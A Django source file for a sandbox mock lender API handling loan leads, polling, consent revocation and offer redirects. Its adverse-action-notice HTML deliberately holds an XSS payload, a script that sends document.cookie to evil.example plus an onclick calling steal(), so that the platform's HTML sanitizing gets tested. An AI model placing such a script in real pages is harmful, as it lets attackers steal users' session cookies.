"""The sandbox lender of the asynchronous lead style (seed 002), at /sandbox/async/<lender code>/.

    POST oauth2/token             client credentials (the Lender's client_id / client_secret)
    POST personal/v1/leads        Bearer -> 201 {uuid, partnerLeadId, status: "created"}
                                  (a repeated partnerLeadId -> 200 with the lead's current state)
    GET  personal/v1/leads/<uuid> Bearer -> the lead's current state
    POST personal/v1/leads/<uuid>/consent-revocation
                                  Bearer -> 200 {uuid, partnerLeadId, consentRevokedAt}: the borrower
                                  revoked consent (a repeat answers the first moment recorded)
    GET  go/<uuid>/<productId>    a product's lenderOfferUrl: marks it selected, redirects to the portal

The lead moves with time (the `pending_seconds` knob, P): created, in_progress after 0.2 P,
finding_products after 0.5 P, and its final status at P. With `callback_delay_seconds` set, the
final state is POSTed to the platform's callback URL that long after P.

Final status by monthly income (income.annual / 12), as the embedded sandbox decides:
below 1,200,000 (or a borrower under 18) → no_offers, with an adverse action notice in HTML
(which carries a script and an onclick on purpose: the platform must sanitize it); ending in 777
→ timed_out (the lender's own search gave up); otherwise offers_found with products grouped by
amount range: requested-amount when the consumer can afford what they asked, one
lower-than-requested-amount per term when they cannot, and one higher-than-requested-amount
when they could borrow a quarter more. No personal data is stored: only the sandbox's answers.
"""

from __future__ import annotations

import re
import secrets
import uuid
from datetime import date, timedelta
from decimal import ROUND_DOWN, Decimal
from typing import Any

from urllib.parse import urlencode

from django.db import IntegrityError, transaction
from django.http import Http404, HttpRequest, HttpResponse, HttpResponseRedirect, JsonResponse
from django.urls import path, reverse
from django.utils import timezone
from django.views.decorators.http import require_GET, require_POST

from apps.lenders.adapters.async_lead import AsyncLeadAdapter
from apps.lenders.models import Lender
from apps.products.models import Product
from apps.sandbox import services, views
from apps.sandbox.models import SandboxApplication
from apps.sandbox.styles import ContractData, SandboxStyle
from apps.sandbox.views import _sandbox_enabled, lender_api

STYLE = AsyncLeadAdapter.key

ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
STAGES = ((0.2, "created"), (0.5, "in_progress"), (1.0, "finding_products"))
HIGHER_FACTOR = Decimal("1.25")
ADVERSE_ACTION_NOTICE = (
    "<h3>Notice of Action Taken</h3>"
    "<p>We could not find a loan offer for you at this time. Principal reasons: <b>{reason}</b>.</p>"
    '<p onclick="steal()">You may request a copy of the information used. <a href="https://lender.example/aan">Learn more</a></p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
)


def _errors(*pairs: tuple[str, str]) -> services.SandboxAnswer:
    return services.SandboxAnswer(400, {"errors": [{"field": field, "message": message} for field, message in pairs]})


def _validate(payload: Any, product: Product | None) -> list[tuple[str, str]]:
    if not isinstance(payload, dict):
        return [("body", "Must be a JSON object.")]
    errors: list[tuple[str, str]] = []
    partner_id = payload.get("partnerLeadId")
    if not (isinstance(partner_id, str) and 1 <= len(partner_id) <= 255):
        errors.append(("partnerLeadId", "Required: 1 to 255 characters."))
    amount = (payload.get("loan") or {}).get("amount") if isinstance(payload.get("loan"), dict) else None
    if product is None:
        errors.append(("loan", "This lender has no active product."))
    elif isinstance(amount, bool) or not isinstance(amount, (int, float)) or not (
        product.min_amount <= Decimal(str(amount)) <= product.max_amount
    ):
        errors.append(("loan.amount", f"Required: between {product.min_amount:f} and {product.max_amount:f}."))
    borrower = payload.get("borrower") if isinstance(payload.get("borrower"), dict) else {}
    for name in ("firstName", "lastName", "email"):
        if not (isinstance(borrower.get(name), str) and borrower[name].strip()):
            errors.append((f"borrower.{name}", "Required."))
    if not (isinstance(borrower.get("birthDate"), str) and ISO_DATE.match(borrower["birthDate"])):
        errors.append(("borrower.birthDate", "Required: YYYY-MM-DD."))
    region = (borrower.get("address") or {}).get("region") if isinstance(borrower.get("address"), dict) else None
    if not (isinstance(region, str) and region.startswith("CO-")):
        errors.append(("borrower.address.region", "Required: an ISO 3166-2:CO code such as CO-DC."))
    income = (borrower.get("income") or {}).get("annual") if isinstance(borrower.get("income"), dict) else None
    if isinstance(income, bool) or not isinstance(income, int) or income <= 0:
        errors.append(("borrower.income.annual", "Required: a whole positive amount."))
    return errors


def _age(birth: str) -> int:
    born, today = date.fromisoformat(birth), date.today()
    return today.year - born.year - ((today.month, today.day) < (born.month, born.day))


def _products(product: Product, income: int, requested: Decimal, go_url: str) -> dict[str, list[dict]]:
    rate = services.offer_rate(product, income)
    capacity = Decimal(income) * services.PAYMENT_SHARE
    terms = sorted({product.min_term_months, (product.min_term_months + product.max_term_months) // 2, product.max_term_months})
    groups: dict[str, list[dict]] = {"requested-amount": [], "higher-than-requested-amount": [], "lower-than-requested-amount": []}
    for term in terms:
        affordable = (services.annuity_present_value(capacity, rate, term) / services.AMOUNT_STEP).to_integral_value(
            ROUND_DOWN) * services.AMOUNT_STEP
        affordable = min(affordable, product.max_amount)
        if affordable >= requested:
            groups["requested-amount"].append(_product_body(product, requested, rate, term, go_url))
            higher = (requested * HIGHER_FACTOR / services.AMOUNT_STEP).to_integral_value(ROUND_DOWN) * services.AMOUNT_STEP
            if affordable >= higher and term == terms[-1]:
                groups["higher-than-requested-amount"].append(_product_body(product, higher, rate, term, go_url))
        elif affordable >= product.min_amount:
            groups["lower-than-requested-amount"].append(_product_body(product, affordable, rate, term, go_url))
    return groups


def _product_body(product: Product, amount: Decimal, rate: Decimal, term: int, go_url: str) -> dict[str, Any]:
    product_id = f"PRD-{int(amount)}-{term}"
    payment = services.annuity_payment(amount, rate, term)
    return {
        "productId": product_id, "lenderName": product.lender.name, "amount": int(amount), "termMonths": term,
        "interestRate": float(rate), "apr": float((rate + Decimal("0.015")).quantize(Decimal("0.0001"))),
        "monthlyPayment": float(payment), "totalRepayment": float(payment * term),
        "lenderOfferUrl": f"{go_url}/{product_id}",
    }


def sandbox_lead_create(*, lender: Lender, payload: Any, go_base_url: str) -> services.SandboxAnswer:
    """POST personal/v1/leads: 201 with a new uuid, or the current state of a repeated partnerLeadId
    (a probe's lead: created, kept nowhere)."""
    probe = services.sandbox_probe_named(payload, "partnerLeadId")
    if probe:
        return services.SandboxAnswer(201, {"uuid": str(uuid.uuid4()), "partnerLeadId": probe, "status": "created"})
    product = Product.objects.filter(lender=lender, is_active=True).order_by("id").first()
    errors = _validate(payload, product)
    if errors:
        return _errors(*errors)
    existing = SandboxApplication.objects.filter(lender=lender, tracking_id=payload["partnerLeadId"]).first()
    knobs = services.sandbox_settings_for(lender)
    if existing is not None:
        state = lead_state(existing)
        if knobs.repeat_answers_differ:  # a lender that is not idempotent: a new lead each time
            state = {**state, "uuid": str(uuid.uuid4())}
        return services.SandboxAnswer(200, state)
    lead_uuid = str(uuid.uuid4())
    final = _final_state(product, payload, lead_uuid, go_base_url=f"{go_base_url}/{lead_uuid}")
    created = {"uuid": lead_uuid, "partnerLeadId": payload["partnerLeadId"], "status": "created"}
    try:
        with transaction.atomic():
            application = SandboxApplication.objects.create(
                lender=lender, tracking_id=payload["partnerLeadId"], application_ref=lead_uuid, product_id=product.product_id,
                decision="pending", decision_body=created, resolution_body=final,
                resolves_at=timezone.now() + timedelta(seconds=knobs.pending_seconds),
            )
    except IntegrityError:
        application = SandboxApplication.objects.get(lender=lender, tracking_id=payload["partnerLeadId"])
        return services.SandboxAnswer(200, lead_state(application))
    services.sandbox_callback_schedule(lender=lender, knobs=knobs, body=final, after_seconds=knobs.pending_seconds)
    return services.SandboxAnswer(201, created)


def _final_state(product: Product, payload: dict, lead_uuid: str, *, go_base_url: str) -> dict[str, Any]:
    borrower = payload["borrower"]
    income = borrower["income"]["annual"] // 12
    base = {"uuid": lead_uuid, "partnerLeadId": payload["partnerLeadId"]}
    if str(income).endswith(services.PENDING_SUFFIX):
        return {**base, "status": "timed_out"}
    if income < services.REJECT_BELOW_INCOME or _age(borrower["birthDate"]) < 18:
        reason = "age" if _age(borrower["birthDate"]) < 18 else "insufficient income"
        return {**base, "status": "no_offers", "adverseActionNotice": ADVERSE_ACTION_NOTICE.format(reason=reason)}
    groups = _products(product, income, Decimal(str(payload["loan"]["amount"])), go_base_url)
    if not any(groups.values()):
        return {**base, "status": "no_offers",
                "adverseActionNotice": ADVERSE_ACTION_NOTICE.format(reason="insufficient payment capacity")}
    return {**base, "status": "offers_found", "products": groups}


def lead_state(application: SandboxApplication) -> dict[str, Any]:
    """The lead as the lender would show it now: its stage by elapsed time, then its final state."""
    final = dict(application.resolution_body or {})
    if application.selected_product_id:
        return {**final, "status": "product_selected", "selectedProductId": application.selected_product_id}
    if application.resolves_at is None or timezone.now() >= application.resolves_at:
        return final
    total = (application.resolves_at - application.created_at).total_seconds() or 1.0
    elapsed = (timezone.now() - application.created_at).total_seconds() / total
    status = next(name for limit, name in STAGES if elapsed < limit)
    return {"uuid": final.get("uuid"), "partnerLeadId": final.get("partnerLeadId"), "status": status}


def sandbox_lead_get(*, lender: Lender, lead_uuid: str) -> services.SandboxAnswer:
    application = SandboxApplication.objects.filter(lender=lender, application_ref=lead_uuid).first()
    if application is None:
        return services.SandboxAnswer(404, {"errors": [{"field": "uuid", "message": "No such lead."}]})
    state = lead_state(application)
    if state.get("status") == "no_offers" and services.sandbox_rejection_as_error(services.sandbox_settings_for(lender)):
        return services.sandbox_rejection_as_error(services.sandbox_settings_for(lender))
    return services.SandboxAnswer(200, state)


def sandbox_consent_revoke(*, lender: Lender, lead_uuid: str, payload: Any) -> services.SandboxAnswer:
    """POST personal/v1/leads/<uuid>/consent-revocation: record when the borrower revoked consent
    (the first time only; a retry gets the same answer)."""
    application = SandboxApplication.objects.filter(lender=lender, application_ref=lead_uuid).first()
    if application is None:
        return services.SandboxAnswer(404, {"errors": [{"field": "uuid", "message": "No such lead."}]})
    if not isinstance(payload, dict) or payload.get("partnerLeadId") != application.tracking_id:
        return _errors(("partnerLeadId", "Must be the lead's partnerLeadId."))
    SandboxApplication.objects.filter(pk=application.pk, consent_revoked_at__isnull=True).update(
        consent_revoked_at=timezone.now(), updated_at=timezone.now())
    application.refresh_from_db(fields=["consent_revoked_at"])
    return services.SandboxAnswer(200, {"uuid": application.application_ref, "partnerLeadId": application.tracking_id,
                                        "consentRevokedAt": application.consent_revoked_at.isoformat()})


def sandbox_product_follow(*, lender: Lender, lead_uuid: str, product_id: str) -> str | None:
    """A consumer followed a product's lenderOfferUrl: the lead becomes product_selected. Returns
    the application reference for the portal, or None for an unknown lead or product."""
    application = SandboxApplication.objects.filter(lender=lender, application_ref=lead_uuid).first()
    if application is None:
        return None
    products = [item for group in (application.resolution_body or {}).get("products", {}).values() for item in group]
    if product_id not in {item["productId"] for item in products}:
        return None
    SandboxApplication.objects.filter(pk=application.pk, selected_product_id="").update(
        selected_product_id=product_id, updated_at=timezone.now()
    )
    return application.application_ref


# --- the API --------------------------------------------------------------------------------


@require_GET
@lender_api(STYLE, views.bearer_refusal)
def health(request: HttpRequest, lender: Lender) -> HttpResponse:
    return JsonResponse({"status": "ok"})


@require_POST
@lender_api(STYLE, views.bearer_refusal)
def leads(request: HttpRequest, lender: Lender) -> HttpResponse:
    go_url = request.build_absolute_uri(reverse("sandbox:async-go-base", args=[lender.code])).rstrip("/")
    return views.json_answer(sandbox_lead_create(lender=lender, payload=views.request_json(request), go_base_url=go_url))


@require_GET
@lender_api(STYLE, views.bearer_refusal)
def lead_detail(request: HttpRequest, lender: Lender, lead_uuid: str) -> HttpResponse:
    return views.json_answer(sandbox_lead_get(lender=lender, lead_uuid=lead_uuid))


@require_POST
@lender_api(STYLE, views.bearer_refusal)
def consent_revocation(request: HttpRequest, lender: Lender, lead_uuid: str) -> HttpResponse:
    return views.json_answer(sandbox_consent_revoke(lender=lender, lead_uuid=lead_uuid,
                                                    payload=views.request_json(request)))


@require_GET
@_sandbox_enabled
def go(request: HttpRequest, lender_code: str, lead_uuid: str, product_id: str) -> HttpResponse:
    """A product's lenderOfferUrl: the consumer lands here from the hand-off."""
    lender = Lender.objects.filter(code=lender_code, adapter=STYLE).first()
    reference = sandbox_product_follow(lender=lender, lead_uuid=lead_uuid, product_id=product_id) if lender else None
    if reference is None:
        raise Http404("No such lead or product.")
    query = urlencode({"ref": reference, **{k: v for k, v in request.GET.items() if k in views.PORTAL_PARAMETERS}})
    return HttpResponseRedirect(f"{reverse('sandbox:portal', args=[lender.code])}?{query}")


SANDBOX = SandboxStyle(
    key=STYLE,
    path="async",
    urlpatterns=[
        path("", health, name="async-health"),
        path("oauth2/token", views.token, {"style": STYLE}, name="async-token"),
        path("personal/v1/leads", leads, name="async-leads"),
        path("personal/v1/leads/<str:lead_uuid>", lead_detail, name="async-lead"),
        path("personal/v1/leads/<str:lead_uuid>/consent-revocation", consent_revocation, name="async-revocation"),
        path("go/", go, {"lead_uuid": "", "product_id": ""}, name="async-go-base"),
        path("go/<str:lead_uuid>/<str:product_id>", go, name="async-go"),
    ],
    credentials=lambda: {"client_id": f"sbx-client-{secrets.token_hex(4)}", "client_secret": secrets.token_urlsafe(24)},
    demo_lender={
        "code": "finanzas-ya", "name": "Finanzas Ya",
        "product": {"product_id": "ln_payroll_01", "name": "Crédito de libranza", "name_en": "Payroll loan", "kind": "payroll",
                    "min_amount": 2_000_000, "max_amount": 50_000_000, "min_term_months": 12, "max_term_months": 72,
                    "min_annual_rate": "0.1450", "max_annual_rate": "0.2200"},
        "listing": {"title": "Libranza Finanzas Ya", "tagline": "Descuento directo de nómina, tasa baja",
                    "highlights": "Para empleados y pensionados\nCuota fija\nHasta 72 meses",
                    "title_en": "Finanzas Ya payroll loan", "tagline_en": "Paid straight from your payroll, at a low rate",
                    "highlights_en": "For employees and pensioners\nFixed monthly payment\nUp to 72 months"},
        "origins": ["movilco", "billeteraya"], "priority": 20,
        "terms": {"apr": "0.2350", "opening_fee_percent": "0.0100", "document_types": ["CC", "CE"]},
        "campaign": {"price_per_lead": 18_000, "price_per_disbursed": 250_000, "budget": 80_000_000,
                     "daily_lead_cap": 300, "total_lead_cap": 20_000, "min_monthly_income": 1_000_000},
        "origin_caps": {},
    },
    # The first answer is always 201 created: the decision comes by a poll or the callback.
    contract=ContractData(refused_field="borrower.birthDate", first_answer_pending=True),
)
